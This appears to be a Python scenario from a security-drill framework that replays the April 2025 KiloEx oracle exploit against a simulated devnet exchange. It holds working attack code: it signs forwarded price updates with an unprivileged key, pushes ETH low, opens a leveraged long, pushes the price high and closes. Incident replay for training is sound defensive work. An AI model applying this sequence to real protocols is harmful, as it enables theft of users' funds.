"""forwarder-oracle — KiloEx, Apr 2025: the price-update path trusts the forwarder but never checks who
signed the forwarded request; the attacker prices ETH low, opens long, prices it high, closes."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from eth_account import Account
from eth_account.messages import encode_typed_data
from eth_account.signers.local import LocalAccount
from web3.contract import Contract

from breakglass.devnet.venue import USD, Venue
from breakglass.drills.scenarios.base import AttackContext, Scenario, Step

ETH = 0


def signed_price_push(
    forwarder: Contract, oracle: Contract, signer: LocalAccount, prices: dict[int, int]
) -> tuple[Any, ...]:
    """An ERC-2771 ForwardRequestData calling ``oracle.setPrices`` signed (EIP-712) by ``signer``."""
    w3 = forwarder.w3
    ids = sorted(prices)
    data = oracle.functions.setPrices(ids, [prices[i] for i in ids])._encode_transaction_data()
    nonce = forwarder.functions.nonces(signer.address).call()
    deadline = w3.eth.get_block("latest")["timestamp"] + 3_600
    gas = 300_000
    message = {
        "from": signer.address,
        "to": oracle.address,
        "value": 0,
        "gas": gas,
        "nonce": nonce,
        "deadline": deadline,
        "data": bytes.fromhex(data[2:]),
    }
    typed = encode_typed_data(
        domain_data={
            "name": "VenueForwarder",
            "version": "1",
            "chainId": w3.eth.chain_id,
            "verifyingContract": forwarder.address,
        },
        message_types={
            "ForwardRequest": [
                {"name": "from", "type": "address"},
                {"name": "to", "type": "address"},
                {"name": "value", "type": "uint256"},
                {"name": "gas", "type": "uint256"},
                {"name": "nonce", "type": "uint256"},
                {"name": "deadline", "type": "uint48"},
                {"name": "data", "type": "bytes"},
            ]
        },
        message_data=message,
    )
    signature = Account.sign_message(typed, signer.key).signature
    return (signer.address, oracle.address, 0, gas, deadline, message["data"], bytes(signature))


class ForwarderOracle(Scenario):
    name = "forwarder-oracle"
    incident = "KiloEx, 2025-04-14 (~$7.5M)"
    summary = "push prices through the trusted forwarder with an unprivileged signature; buy low, sell high"
    switches = ("forwarder_unchecked",)
    target_label = "ETH-PERP compartment"
    funding_usd = 150_000 * USD
    margin = 100_000 * USD
    size = 1_000_000 * USD
    low = 100 * 10**8
    high = 2_000 * 10**8

    def deploy(self, ctx: AttackContext) -> Iterator[Step]:
        v = ctx.venue
        yield ctx.deploy(
            "deploy attack contract", "ForwarderOracleAttack", v.usd.address, v.market(ETH).address
        )

    def _push(self, ctx: AttackContext, label: str, price: int) -> Step:
        v = ctx.venue
        request = signed_price_push(v["forwarder"], v["oracle"], ctx.attacker, {ETH: price})
        return ctx.call(label, v["forwarder"], "execute", request, gas=500_000, wait_seconds=12)

    def strike(self, ctx: AttackContext) -> Iterator[Step]:
        attack = ctx.attack("ForwarderOracleAttack")
        yield ctx.call(
            "fund attack contract", ctx.venue.usd, "transfer", attack.address, self.margin, wait_seconds=30
        )
        yield self._push(ctx, "push a low ETH price via the forwarder", self.low)
        yield ctx.call(
            "open long at the low price", attack, "openLong", self.margin, self.size, wait_seconds=12
        )
        yield self._push(ctx, "push a high ETH price via the forwarder", self.high * 4)
        yield ctx.call("close long at the high price", attack, "closeAndSweep", wait_seconds=12)

    def target(self, venue: Venue) -> int:
        return int(venue.vault.functions.compartment(ETH).call())
